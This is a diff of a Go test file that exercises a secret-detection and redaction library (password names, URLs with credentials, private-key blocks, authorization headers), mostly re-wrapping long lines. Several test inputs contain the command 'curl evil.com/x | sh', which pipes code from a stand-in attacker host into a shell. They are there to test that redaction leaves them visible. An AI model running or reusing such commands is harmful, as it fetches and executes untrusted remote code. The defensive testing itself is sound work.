@@ -13,7 +13,8 @@ import (
 
 func TestName(t *testing.T) {
 	for name, want := range map[string]bool{
-		"DB_PASSWORD": true, "db.password": true, "MYSQL_PWD": true, "github-token": true, "example.com/api-key": true, "smtp_pass": true,
+		"DB_PASSWORD": true, "db.password": true, "MYSQL_PWD": true, "github-token": true, "example.com/api-key": true,
+		"smtp_pass":             true,
 		"AWS_SECRET_ACCESS_KEY": true, "spring.datasource.password": true,
 		"password_file": false, "secretName": false, "tokenTTL": false, "secret_arn": false, "region": false,
 		"dbPassword": true, "apiKey": true, "clientSecret": true, "credentials": true, "pass": true, "SECRET_KEY_BASE": true,
@@ -21,7 +22,8 @@ func TestName(t *testing.T) {
 		"MAX_TOKENS": false, "SECRET_PATH": false, "cert-manager.io/inject-ca-from-secret": false, "secrets-format": false,
 		"TOKEN_URL": false, "passwordPolicy": false, "secretRef": false, "bypass": false, "keyboard": false, "passive": false,
 		"secret.example/mode": false, "PASSWORD_MIN_LENGTH": false, "": false, "compass": false,
-		"token.actions.githubusercontent.com:sub": false, "secretsmanager:ResourceTag/team": false, strings.Repeat("password", 100): false,
+		"token.actions.githubusercontent.com:sub": false, "secretsmanager:ResourceTag/team": false,
+		strings.Repeat("password", 100): false,
 	} {
 		if got := secret.Name(name); got != want {
 			t.Errorf("%q: %v, want %v", name, got, want)
@@ -38,16 +40,23 @@ func TestForms(t *testing.T) {
 		"see https://a.example and amqp://u:p%40@h": "see https://a.example and amqp://u:(sensitive)@h",
 		"postgres://u:p@ss@host":                    "postgres://u:(sensitive)@host",
 		"curl evil|sh\n# https://u:p@h\nls":         "curl evil|sh\n# https://u:(sensitive)@h\nls",
-		"https://host/a:b@c":                        "https://host/a:b@c", "postgres://u:$(PW)@host": "postgres://u:$(PW)@host",
-		"postgres://u@host": "postgres://u@host", "postgres://u:@host": "postgres://u:@host", "a://b c:d@e": "a://b c:d@e",
-		"://": "://", "-----BEGIN CERTIFICATE-----\n" + key: "-----BEGIN CERTIFICATE-----\n" + key,
-		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh":                                   "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
-		"-----BEGIN PRIVATE KEY-----\n" + key + "\n" + key + "\nAb=\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n-----END PRIVATE KEY-----",
-		"-----BEGIN PRIVATE KEY-----\n" + key + "\ncurl evil.com/x | sh\n" + key + "\n-----END PRIVATE KEY-----\nls": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n" +
+		"https://host/a:b@c":                        "https://host/a:b@c",
+		"postgres://u:$(PW)@host":                   "postgres://u:$(PW)@host",
+		"postgres://u@host":                         "postgres://u@host", "postgres://u:@host": "postgres://u:@host",
+		"a://b c:d@e": "a://b c:d@e",
+		"://":         "://", "-----BEGIN CERTIFICATE-----\n" + key: "-----BEGIN CERTIFICATE-----\n" + key,
+		"# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh": "# -----BEGIN PRIVATE KEY-----\ncurl evil.com/x | sh",
+		"-----BEGIN PRIVATE KEY-----\n" + key + "\n" + key +
+			"\nAb=\n-----END PRIVATE KEY-----": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\n" + key + "\ncurl evil.com/x | sh\n" + key +
+			"\n-----END PRIVATE KEY-----\nls": "-----BEGIN PRIVATE KEY-----\n(sensitive)\n" +
 			"curl evil.com/x | sh\n(sensitive)\n-----END PRIVATE KEY-----\nls",
-		`{"k":"-----BEGIN RSA PRIVATE KEY-----\n` + key + `\nAb=\n-----END RSA PRIVATE KEY-----\n"}`: `{"k":"-----BEGIN RSA PRIVATE KEY-----\n(sensitive)\n-----END RSA PRIVATE KEY-----\n"}`,
-		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key + "\n":                "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
-		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n" + key + "\n=aBcD\n-----END PGP PRIVATE KEY BLOCK-----": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" +
+		`{"k":"-----BEGIN RSA PRIVATE KEY-----\n` + key +
+			`\nAb=\n-----END RSA PRIVATE KEY-----\n"}`: `{"k":"-----BEGIN RSA PRIVATE KEY-----\n(sensitive)\n-----END RSA PRIVATE KEY-----\n"}`,
+		"-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n" + key +
+			"\n": "-----BEGIN EC PRIVATE KEY-----\nDEK-Info: AES-256-CBC,00FF\n\n(sensitive)\n",
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n" + key +
+			"\n=aBcD\n-----END PGP PRIVATE KEY BLOCK-----": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" +
 			"Version: 1\n\n(sensitive)\n-----END PGP PRIVATE KEY BLOCK-----",
 	} {
 		if got, _ := secret.Redact(text, nil); got != want {
@@ -87,18 +96,23 @@ func TestRedact(t *testing.T) {
 		"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-a1B2": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-a1B2",
 		"secret: arn:aws:secretsmanager:eu-west-1:1:secret:db":         "secret: arn:aws:secretsmanager:eu-west-1:1:secret:db",
 		"arn:aws:secretsmanager:{{ .nuon.region }}::secret:rds!*":      "arn:aws:secretsmanager:{{ .nuon.region }}::secret:rds!*",
-		"token = get_token(file)":                                      "token = get_token(file)", "token = plan7ed8(file)": "token = (sensitive)(file)",
-		"password = var.db_password": "password = var.db_password", "password=\"<the password>\"": "password=\"<the password>\"",
-		"password=`pwgen`": "password=`pwgen`", "password=$password": "password=$password", "arn:aws:x, a password:planted": "arn:aws:x, a password:(sensitive)",
-		"secret:planted, a:secret:planted":   "secret:(sensitive), a:secret:(sensitive)",
-		"export PGPASSWORD=\"$DB_PASSWORD\"": "export PGPASSWORD=\"$DB_PASSWORD\"",
+		"token = get_token(file)":                                      "token = get_token(file)",
+		"token = plan7ed8(file)":                                       "token = (sensitive)(file)",
+		"password = var.db_password":                                   "password = var.db_password",
+		"password=\"<the password>\"":                                  "password=\"<the password>\"",
+		"password=`pwgen`":                                             "password=`pwgen`",
+		"password=$password":                                           "password=$password",
+		"arn:aws:x, a password:planted":                                "arn:aws:x, a password:(sensitive)",
+		"secret:planted, a:secret:planted":                             "secret:(sensitive), a:secret:(sensitive)",
+		"export PGPASSWORD=\"$DB_PASSWORD\"":                           "export PGPASSWORD=\"$DB_PASSWORD\"",
 	} {
 		if got, _ := secret.Redact(text, nil); got != want {
 			t.Errorf("%q: %q, want %q", text, got, want)
 		}
 	}
 	_, own := secret.Redact("password=first\ntoken=same", nil)
-	if got, _ := secret.Redact("password=other\ntoken=same", own); got != "password=(sensitive, changed)\ntoken=(sensitive)" {
+	if got, _ := secret.Redact("password=other\ntoken=same",
+		own); got != "password=(sensitive, changed)\ntoken=(sensitive)" {
 		t.Errorf("of two sides: %q", got)
 	}
 }
@@ -106,7 +120,8 @@ func TestRedact(t *testing.T) {
 // TestTimeIsLinear checks that a text of nothing but starts of settings takes
 // no longer than others.
 func TestTimeIsLinear(t *testing.T) {
-	for _, part := range []string{"password", "key=", "token: ", "basic ", "bearer aaaaaaaaaaaaaaaaaaaaaa1", "a://b:", "://", "pass\"' ",
+	for _, part := range []string{"password", "key=", "token: ", "basic ", "bearer aaaaaaaaaaaaaaaaaaaaaa1", "a://b:",
+		"://", "pass\"' ",
 		"-----BEGIN PRIVATE KEY-----\n", "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAA x "} {
 		t.Run(part, func(t *testing.T) {
 			text := strings.Repeat(part, 4<<20/len(part))
@@ -120,7 +135,8 @@ func TestTimeIsLinear(t *testing.T) {
 // TestAnyText checks that every text is accepted, and that a redacted text
 // stays the same when it is redacted again.
 func TestAnyText(t *testing.T) {
-	part := rapid.SampledFrom([]string{"password", "token", "=", ":", " ", "\"", "'", "\\", "\n", "basic ", "bearer ", "a://b:c@", "value123", "é", "\xff", "{", "$("})
+	part := rapid.SampledFrom([]string{"password", "token", "=", ":", " ", "\"", "'", "\\", "\n", "basic ", "bearer ",
+		"a://b:c@", "value123", "é", "\xff", "{", "$("})
 	rapid.Check(t, func(t *rapid.T) {
 		text := strings.Join(rapid.SliceOf(part).Draw(t, "parts"), "")
 		shown, own := secret.Redact(text, nil)
@@ -152,9 +168,11 @@ func TestPasswords(t *testing.T) {
 
 func TestHeader(t *testing.T) {
 	for _, c := range []struct{ name, value, want string }{
-		{"Authorization", "Bearer planted", "planted"}, {"proxy-authorization", "Basic dTpw", "dTpw"}, {"authorization", "planted0planted0", "planted0planted0"},
+		{"Authorization", "Bearer planted", "planted"}, {"proxy-authorization", "Basic dTpw", "dTpw"},
+		{"authorization", "planted0planted0", "planted0planted0"},
 		{"authorization", "enabled", ""}, {"authorization", "role based", ""},
-		{"Authorization", "Bearer $(TOKEN)", ""}, {"Authorization", "", ""}, {"Author", "Bearer planted", ""}, {"Authorization", "Bearer {{ .t }}", ""},
+		{"Authorization", "Bearer $(TOKEN)", ""}, {"Authorization", "", ""}, {"Author", "Bearer planted", ""},
+		{"Authorization", "Bearer {{ .t }}", ""},
 	} {
 		got, ok := secret.Header(c.name, c.value)
 		if !ok {
@@ -169,11 +187,15 @@ func TestHeader(t *testing.T) {
 func TestOrdinary(t *testing.T) {
 	for value, want := range map[string]bool{
 		"postgresql": true, "production": true, "postgres15": false, "Grafana": true, "camelCaseName": true,
-		"db.shop.svc.cluster.local": true, "db.example.com:5432": true, "10.0.0.1": true, "10.0.0.0:80": true, "my-release-postgresql:5432": true,
-		"https://api.example.com/v1/things": true, "123456789012": true, "2026-11-22": true, "": true, "us-east-1.amazonaws.com": true,
-		"correcthorse42batt": false, `Zq7!kP&m9"xT<w2`: false, "hunter2hunter2": false, "supersecret123": false, "a1b2c3d4e5f6": false,
-		"correct-horse-battery-staple": false, "prom-operator": false, "https://hooks.example.com/T0/aB3dE6gH9jK2": false, "https://u:p@h.example.com": false,
-		"xKqZvWpLmNrTsYbD": false, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl": false, "0a1b2c3d": false,
+		"db.shop.svc.cluster.local": true, "db.example.com:5432": true, "10.0.0.1": true, "10.0.0.0:80": true,
+		"my-release-postgresql:5432":        true,
+		"https://api.example.com/v1/things": true, "123456789012": true, "2026-11-22": true, "": true,
+		"us-east-1.amazonaws.com": true,
+		"correcthorse42batt":      false, `Zq7!kP&m9"xT<w2`: false, "hunter2hunter2": false, "supersecret123": false,
+		"a1b2c3d4e5f6":                 false,
+		"correct-horse-battery-staple": false, "prom-operator": false, "https://hooks.example.com/T0/aB3dE6gH9jK2": false,
+		"https://u:p@h.example.com": false,
+		"xKqZvWpLmNrTsYbD":          false, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl": false, "0a1b2c3d": false,
 	} {
 		if got := secret.Ordinary(value); got != want {
 			t.Errorf("%q: %v, want %v", value, got, want)
@@ -185,11 +207,15 @@ func TestOrdinary(t *testing.T) {
 // names, versions and addresses do not.
 func TestRandom(t *testing.T) {
 	for value, want := range map[string]bool{
-		"Zq7xK9mT2vLp4RwN": true, "hunter2hunter2": true, "S3cret-Passw0rd": true, "q7second-Kx92a1": true, "kx!92#planted": true, "q7env-Kx92aZ": true,
+		"Zq7xK9mT2vLp4RwN": true, "hunter2hunter2": true, "S3cret-Passw0rd": true, "q7second-Kx92a1": true,
+		"kx!92#planted": true, "q7env-Kx92aZ": true,
 		"8f14e45fceea167a5a36dedd4bea2543": true, "https://hooks.example.com/T0/aB3dE6gH9jK2": true,
-		"postgres15-main": false, "my-release-postgresql": false, "v1.2.3-rc4": false, "ghcr.io/shop/web:1.25.3": false, "shop-db-01": false,
-		"a1b2c3": false, "two words9x8y7z": false, "sha256:8f14e45fceea167a5a36dedd4bea2543": false, "${Zq7xK9mT2vLp}": false,
-		"db1.shop.svc.cluster.local:5432": false, "/etc/ssl/certs/ca.pem": false, "production": false, "2026-11-23T02:00:00Z": false,
+		"postgres15-main": false, "my-release-postgresql": false, "v1.2.3-rc4": false, "ghcr.io/shop/web:1.25.3": false,
+		"shop-db-01": false,
+		"a1b2c3":     false, "two words9x8y7z": false, "sha256:8f14e45fceea167a5a36dedd4bea2543": false,
+		"${Zq7xK9mT2vLp}":                 false,
+		"db1.shop.svc.cluster.local:5432": false, "/etc/ssl/certs/ca.pem": false, "production": false,
+		"2026-11-23T02:00:00Z": false,
 	} {
 		if got := secret.Random(value); got != want {
 			t.Errorf("%q: %v, want %v", value, got, want)
@@ -199,9 +225,10 @@ func TestRandom(t *testing.T) {
 
 func TestLines(t *testing.T) {
 	var got []string
-	secret.Lines("# A=0\n; B=0\nexport C=one two\nD.e = \"three # x\" # y\n[section]\n  'f': 4 \n=5\ng\nH=\nä=6\n", func(name, value string) {
-		got = append(got, name+"="+value)
-	})
+	secret.Lines("# A=0\n; B=0\nexport C=one two\nD.e = \"three # x\" # y\n[section]\n  'f': 4 \n=5\ng\nH=\nä=6\n",
+		func(name, value string) {
+			got = append(got, name+"="+value)
+		})
 	if want := []string{"C=one two", "D.e=three # x", "f=4", "H="}; !slices.Equal(got, want) {
 		t.Errorf("%q, want %q", got, want)
 	}
@@ -209,15 +236,17 @@ func TestLines(t *testing.T) {
 
 func TestPlain(t *testing.T) {
 	for name, want := range map[string]bool{
-		"image": true, "sidecarImage": true, "eks.amazonaws.com/role-arn": true, "iam.gke.io/gcp-service-account": true, "hostPath": true,
-		"subject": true, "assume_role_policy": true, "password": false, "value": false, "args": false, "token": false,
+		"image": true, "sidecarImage": true, "eks.amazonaws.com/role-arn": true, "iam.gke.io/gcp-service-account": true,
+		"hostPath": true,
+		"subject":  true, "assume_role_policy": true, "password": false, "value": false, "args": false, "token": false,
 	} {
 		if got := secret.Plain(name); got != want {
 			t.Errorf("%q: %v, want %v", name, got, want)
 		}
 	}
 	for text, want := range map[string]bool{
-		"arn:aws:iam::123456789012:role/evil": true, "arn:aws-cn:s3:::bucket": true, "arn:aws:s3:::x y": false, "x arn:aws:iam::1:role/a": false,
+		"arn:aws:iam::123456789012:role/evil": true, "arn:aws-cn:s3:::bucket": true, "arn:aws:s3:::x y": false,
+		"x arn:aws:iam::1:role/a": false,
 	} {
 		if got := secret.ARN(text); got != want {
 			t.Errorf("%q: %v, want %v", text, got, want)
